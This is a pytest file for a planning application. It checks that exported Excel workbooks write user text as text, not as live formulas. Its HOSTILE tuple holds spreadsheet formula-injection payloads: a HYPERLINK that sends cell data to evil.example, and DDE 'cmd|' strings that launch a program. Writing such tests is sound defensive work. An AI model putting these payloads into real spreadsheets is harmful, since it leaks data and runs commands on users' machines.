"""Issue 17, finding 7: no exported workbook holds a live formula made from user text (the
plan's appendix export, which kpi-compare and the consolidation go through, and the KPI
report's workbook)."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from plan_factories import SAMPLES

from itplan_desktop.domain.indicator import Observation
from itplan_desktop.domain.kpi_periods import parse_period
from itplan_desktop.domain.kpi_progress import TaskProgress
from itplan_desktop.formats.plan_file import read_plan_file
from itplan_desktop.services.kpi_report import build_report, write_report
from itplan_desktop.services.xlsx_export import export_plan_xlsx

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3*cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
)


def _hostile(index: int) -> str:
    return HOSTILE[index % len(HOSTILE)]


def _hostile_plan():
    plan = read_plan_file(SAMPLES / "nhu_xuan_2016_2020.itplan.json").plan
    plan.title = HOSTILE[0]
    plan.place = HOSTILE[1]
    n = 0
    for appendix in plan.appendices:
        appendix.title = _hostile(n)
        for row in appendix.rows:
            n += 1
            row.texts = {key: _hostile(n + i) for i, key in enumerate(row.texts)}
    for i, indicator in enumerate(plan.indicators):
        indicator.name, indicator.group, indicator.unit = _hostile(i), _hostile(i + 1), "%"
        plan.observations.append(
            Observation(
                indicator.uuid, plan.organisation_code, "2017", Decimal(5), note=_hostile(i)
            )
        )
    rows = [r for r in plan.appendices[0].rows if r.values][:4]
    plan.task_progress = [TaskProgress(r.uuid, note=_hostile(i)) for i, r in enumerate(rows)]
    return plan


def _formulas(path: Path) -> list[str]:
    """Every formula of every sheet, read back from the file."""
    found = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            found += [str(c.value) for c in row if c.data_type == "f"]
    return found


def _assert_no_user_formula(path: Path) -> None:
    formulas = _formulas(path)
    assert not [f for f in formulas if "cmd|" in f or "HYPERLINK" in f], formulas
    with zipfile.ZipFile(path) as archive:  # and in the file's own XML
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                cells = re.findall(r"<f>(.*?)</f>", archive.read(name).decode())
                assert not [f for f in cells if "cmd|" in f or "HYPERLINK" in f], name
    texts = {
        str(c.value) for ws in load_workbook(path).worksheets for r in ws.iter_rows() for c in r
    }
    assert set(HOSTILE) & texts  # the texts are there, as text


@pytest.mark.parametrize("layout", ["sheets", "workbooks"])
def test_appendix_export_writes_user_text_as_text(tmp_path, layout):
    plan = _hostile_plan()
    for path in export_plan_xlsx(plan, tmp_path / "plan.xlsx", layout=layout):
        _assert_no_user_formula(path)


def test_kpi_report_workbook_writes_user_text_as_text(tmp_path):
    plan = _hostile_plan()
    report = build_report(plan, [], parse_period("2017"))
    report = replace(report, title=HOSTILE[1])
    path = write_report(report, tmp_path / "report.xlsx")
    _assert_no_user_formula(path)
    assert any(f.startswith("=SUM(") for f in _formulas(path))  # our own totals stay live
